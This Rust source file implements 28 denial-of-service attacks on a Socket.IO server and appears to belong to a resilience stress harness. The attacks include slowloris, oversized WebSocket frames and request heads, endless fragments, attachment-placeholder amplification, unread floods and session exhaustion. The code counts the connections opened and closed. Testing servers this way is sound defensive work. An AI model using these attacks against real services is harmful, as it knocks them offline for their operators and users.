//! The attacks, which run in a separate process.

use std::{
    io::{self, Write},
    net::SocketAddr,
    sync::{
        Arc, Mutex,
        atomic::{AtomicUsize, Ordering},
    },
    time::Duration,
};

use serde::{Deserialize, Serialize};
use tokio::{
    io::AsyncWriteExt,
    time::{Instant, sleep, sleep_until},
};

use crate::wire::{BINARY, CONTINUATION, PING, PONG, TEXT, Wire, frame, head, open_polling, post_head, swallow, text};

/// The attacks, and what each of their connections does.
pub const ATTACKS: [(&str, &str); 28] = [
    ("nothing", "joins, and is silent"),
    ("frames", "sends 990 kB of a WebSocket frame of 1 MB"),
    ("fragments", "sends fragments of one byte of a message that never ends"),
    ("attachments", "sends 9 of 10 attachments of 999 kB"),
    ("attachments-unjoined", "the same, without having joined a namespace"),
    ("auth", "joins 32 namespaces with 64 kB of `auth` together, then asks for others with 990 kB each"),
    ("heads", "sends request heads of 390 kB"),
    ("heads-kept", "opens a WebSocket with a head of 15 kB, and keeps it"),
    ("heads-slow", "sends a head of 390 kB that never ends"),
    ("slowloris", "sends a byte of a head each second"),
    ("bodies", "opens a session and sends all but the last byte of a POST of 1 MB"),
    ("posts", "sends POSTs of 60 kB, each with 7,500 tiny events"),
    ("unread-broadcasts", "is in a room, asks for a broadcast of 1 MB to it every five seconds, and never reads"),
    ("unread-events", "asks for events of 1 kB, 100 each time, and never reads"),
    ("unread-echoes", "sends events of 990 kB that come back, and never reads"),
    ("waiting-maps", "sends `[{\"\":0},..]` of 940 kB to a handler that waits"),
    ("waiting-events", "sends events of 60 kB, half of them empty arrays, to a handler that waits"),
    ("placeholders", "sends an event that names its attachment of 950 kB 30,000 times"),
    ("handshakes", "opens sessions on long-polling, as many as it can"),
    ("vanishing", "opens sessions on long-polling, asks for 100 kB in each, and vanishes"),
    ("namespaces", "joins 10 namespaces that a pattern makes, leaves them, and joins others"),
    ("pings", "sends WebSocket pings of 125 bytes"),
    ("pings-unread", "the same, and never reads"),
    ("pongs", "sends empty pongs"),
    ("pings-3", "sends pings of revision 3"),
    ("events", "sends tiny events that have no handler"),
    ("echoes", "sends tiny events with an ack each"),
    ("connects", "opens a WebSocket, joins, and closes"),
];

/// The activity of an attack.
#[derive(Debug, Default, Clone, Copy, Serialize, Deserialize)]
pub struct Done {
    /// Attempts to open a connection, including those that were refused.
    pub opened: usize,
    /// Connections that the server closed.
    pub closed: usize,
    pub bytes: usize,
}

struct Attacker {
    address: SocketAddr,
    /// The data that each connection sends, once or repeatedly.
    payload: Vec<u8>,
    /// Nanoseconds per byte, for all connections together.
    pace: f64,
    free: Mutex<Instant>,
    opened: AtomicUsize,
    closed: AtomicUsize,
    bytes: AtomicUsize,
}

/// `NAME ADDRESS CONNECTIONS MBITS`. Runs until its standard input is closed.
pub fn run(arguments: &[String]) {
    let [name, address, connections, mbits] = arguments else { panic!("attacker NAME ADDRESS CONNECTIONS MBITS") };
    let attacker = Arc::new(Attacker {
        address: address.parse().unwrap(),
        payload: payload(name),
        pace: 8000.0 / mbits.parse::<f64>().unwrap(),
        free: Mutex::new(Instant::now()),
        opened: AtomicUsize::new(0),
        closed: AtomicUsize::new(0),
        bytes: AtomicUsize::new(0),
    });
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let (task, name) = (attacker.clone(), name.clone());
    let connections = connections.parse().unwrap();
    std::thread::spawn(move || runtime.block_on(task.attack(name.leak(), connections)));
    io::copy(&mut io::stdin(), &mut io::sink()).unwrap();
    let count = |counter: &AtomicUsize| counter.load(Ordering::Relaxed);
    let done = Done { opened: count(&attacker.opened), closed: count(&attacker.closed), bytes: count(&attacker.bytes) };
    println!("{}", serde_json::to_string(&done).unwrap());
    io::stdout().flush().unwrap();
}

impl Attacker {
    async fn attack(self: Arc<Self>, name: &'static str, connections: usize) {
        for number in 0..connections {
            let attacker = self.clone();
            tokio::spawn(async move {
                for round in 0.. {
                    attacker.opened.fetch_add(1, Ordering::Relaxed);
                    if attacker.connection(name, number, round).await.is_err() {
                        attacker.closed.fetch_add(1, Ordering::Relaxed);
                        // The connection is opened again after a short delay, as over a real network.
                        sleep(Duration::from_millis(100)).await;
                    }
                }
            });
        }
        std::future::pending().await
    }

    /// Runs an attack over one connection until the server closes it.
    async fn connection(&self, name: &str, number: usize, round: usize) -> io::Result<()> {
        match name {
            "frames" | "fragments" | "placeholders" => self.send_and_stay(Wire::joined(self.address).await?).await,
            "nothing" | "attachments" => self.send_and_stay(Wire::joined(self.address).await?).await,
            "attachments-unjoined" => self.send_and_stay(Wire::websocket(self.address, 4).await?).await,
            "auth" => self.auth().await,
            "heads" | "heads-slow" => self.send_and_stay(Wire::connect(self.address).await?).await,
            "heads-kept" => self.kept_head().await,
            "slowloris" => self.slowloris().await,
            "bodies" => self.body().await,
            "posts" => self.posts().await,
            "unread-broadcasts" => self.unread_broadcasts(number).await,
            "unread-events" | "unread-echoes" | "waiting-maps" | "waiting-events" | "pings-unread" => {
                self.flood(&mut Wire::joined(self.address).await?, false).await
            }
            "pings" | "pongs" | "events" | "echoes" => self.flood(&mut Wire::joined(self.address).await?, true).await,
            "pings-3" => self.flood(&mut Wire::websocket(self.address, 3).await?, true).await,
            "handshakes" => self.handshakes().await,
            "vanishing" => self.vanishing().await,
            "namespaces" => self.namespaces(number, round).await,
            "connects" => {
                Wire::joined(self.address).await?;
                sleep(Duration::from_millis(10)).await;
                Ok(())
            }
            _ => panic!("there is no attack {name}"),
        }
    }

    /// Sends no faster than the bandwidth that all attackers share.
    async fn send(&self, to: &mut (impl AsyncWriteExt + Unpin), bytes: &[u8]) -> io::Result<()> {
        for chunk in bytes.chunks(16 * 1024) {
            let when = {
                let mut free = self.free.lock().unwrap();
                *free = (*free).max(Instant::now()) + Duration::from_nanos((chunk.len() as f64 * self.pace) as u64);
                *free
            };
            sleep_until(when).await;
            to.write_all(chunk).await?;
            self.bytes.fetch_add(chunk.len(), Ordering::Relaxed);
        }
        Ok(())
    }

    /// Sends the payload once, and then reads.
    async fn send_and_stay(&self, mut wire: Wire) -> io::Result<()> {
        let (mut from, mut to) = wire.split();
        let send = async {
            self.send(&mut to, &self.payload).await?;
            std::future::pending::<io::Result<()>>().await
        };
        tokio::select! {
            failed = send => failed,
            error = swallow(&mut from) => Err(error),
        }
    }

    /// Sends the payload repeatedly.
    async fn flood(&self, wire: &mut Wire, reads: bool) -> io::Result<()> {
        let (mut from, mut to) = wire.split();
        let send = async {
            loop {
                self.send(&mut to, &self.payload).await?;
            }
        };
        tokio::select! {
            failed = send => failed,
            error = swallow(&mut from), if reads => Err(error),
        }
    }

    async fn auth(&self) -> io::Result<()> {
        let mut wire = Wire::websocket(self.address, 4).await?;
        for namespace in 0..32 {
            let auth = list("{\"\":0}", 1_980);
            self.send(&mut wire.split().1, &text(&format!(r#"40/{namespace},{{"a":[{auth}]}}"#))).await?;
        }
        self.flood(&mut wire, true).await
    }

    async fn kept_head(&self) -> io::Result<()> {
        let headers: String = (0..75).map(|n| format!("x-{n:03}: {}\r\n", "x".repeat(191))).collect();
        let wire = Wire::websocket_with(self.address, 4, &headers).await?;
        self.send_and_stay(wire).await
    }

    async fn slowloris(&self) -> io::Result<()> {
        let mut wire = Wire::connect(self.address).await?;
        let head = large_head(10_000);
        for byte in head.as_bytes().chunks(1) {
            self.send(&mut wire.split().1, byte).await?;
            sleep(Duration::from_secs(1)).await;
        }
        Ok(())
    }

    async fn body(&self) -> io::Result<()> {
        let mut wire = Wire::connect(self.address).await?;
        let target = open_polling(&mut wire).await?;
        self.send(&mut wire.split().1, post_head(&target, 1_000_000).as_bytes()).await?;
        self.send_and_stay(wire).await
    }

    async fn posts(&self) -> io::Result<()> {
        let mut wire = Wire::connect(self.address).await?;
        let target = open_polling(&mut wire).await?;
        let head = post_head(&target, self.payload.len());
        loop {
            self.send(&mut wire.split().1, head.as_bytes()).await?;
            self.send(&mut wire.split().1, &self.payload).await?;
            wire.answer().await?;
        }
    }

    async fn unread_broadcasts(&self, number: usize) -> io::Result<()> {
        let mut wire = Wire::joined(self.address).await?;
        wire.send(&text(r#"42["join","r"]"#)).await?;
        sleep(Duration::from_millis(5 * number as u64)).await;
        loop {
            wire.send(&text(r#"42["broadcast","r",1000000]"#)).await?;
            sleep(Duration::from_secs(5)).await;
        }
    }

    async fn handshakes(&self) -> io::Result<()> {
        let mut wire = Wire::connect(self.address).await?;
        loop {
            wire.get("/socket.io/?EIO=4&transport=polling").await?;
        }
    }

    async fn vanishing(&self) -> io::Result<()> {
        let mut wire = Wire::connect(self.address).await?;
        let target = open_polling(&mut wire).await?;
        wire.post(&target, r#"42["burst",100,1000]"#).await?;
        Ok(())
    }

    async fn namespaces(&self, number: usize, round: usize) -> io::Result<()> {
        let mut wire = Wire::websocket(self.address, 4).await?;
        for turn in 0.. {
            let names = (0..10).map(|n| format!("/dynamic/{number}-{round}-{turn}-{n}"));
            let joins: Vec<u8> = names.clone().flat_map(|name| text(&format!("40{name},"))).collect();
            let leaves: Vec<u8> = names.flat_map(|name| text(&format!("41{name},"))).collect();
            self.send(&mut wire.split().1, &[joins, leaves].concat()).await?;
            for _ in 0..10 {
                wire.message().await?;
            }
            sleep(Duration::from_millis(100)).await;
        }
        Ok(())
    }
}

fn payload(name: &str) -> Vec<u8> {
    match name {
        "frames" => [&head(BINARY, true, 1_000_000)[..], &[0; 990_000]].concat(),
        "fragments" => {
            let next = [&head(CONTINUATION, false, 1)[..], b"2"].concat();
            [&head(TEXT, false, 1)[..], b"4", &next.repeat(990_000)].concat()
        }
        "attachments" | "attachments-unjoined" => attachments(),
        "auth" => text(&format!(r#"40/39,{{"a":"{}"}}"#, "x".repeat(990_000))),
        "heads" => [large_head(390_000).as_bytes(), b"\r\n"].concat(),
        "heads-slow" => large_head(390_000).into_bytes(),
        "heads-kept" => text("40"),
        "bodies" => [&b"4"[..], &[b'x'; 999_998]].concat(),
        "posts" => vec![r#"42["x"]"#; 7_500].join("\x1e").into_bytes(),
        "unread-events" => text(r#"42["burst",100,1000]"#),
        "unread-echoes" => text(&format!(r#"42["reflect","{}"]"#, "x".repeat(990_000))),
        "waiting-maps" => text(&format!(r#"42["wait",[{}]]"#, list(r#"{"":0}"#, 940_000))),
        "waiting-events" => text(&format!(r#"42["wait",[{}]]"#, list("[]", 60_000))),
        "placeholders" => placeholders(),
        "pings" | "pings-unread" => frame(PING, &[b'x'; 125]).repeat(100),
        "pongs" => frame(PONG, b"").repeat(1000),
        "pings-3" => text("2").repeat(1000),
        "events" => text(r#"42["x"]"#).repeat(1000),
        "echoes" => text(r#"421["echo",1]"#).repeat(1000),
        _ => Vec::new(),
    }
}

fn attachments() -> Vec<u8> {
    let named: Vec<String> = (0..10).map(|n| format!(r#"{{"_placeholder":true,"num":{n}}}"#)).collect();
    let event = text(&format!(r#"4510-["x",{}]"#, named.join(",")));
    [event, frame(BINARY, &[0; 999_000]).repeat(9)].concat()
}

fn large_head(bytes: usize) -> String {
    let headers: String = (0..bytes / 8_000).map(|n| format!("x-{n:03}: {}\r\n", "x".repeat(7_991))).collect();
    let padding = "x".repeat(bytes % 8_000);
    format!("GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nhost: localhost\r\n{headers}x: {padding}\r\n")
}

/// Joins as many copies of an element as fit, separated by commas.
pub fn list(element: &str, bytes: usize) -> String {
    vec![element; bytes / (element.len() + 1)].join(",")
}

/// The two frames of an event that references one attachment repeatedly.
pub fn placeholders() -> Vec<u8> {
    let named = vec![r#"{"_placeholder":true,"num":0}"#; 30_000].join(",");
    [text(&format!(r#"451-["nobody",{named}]"#)), frame(BINARY, &[0; 950_000])].concat()
}
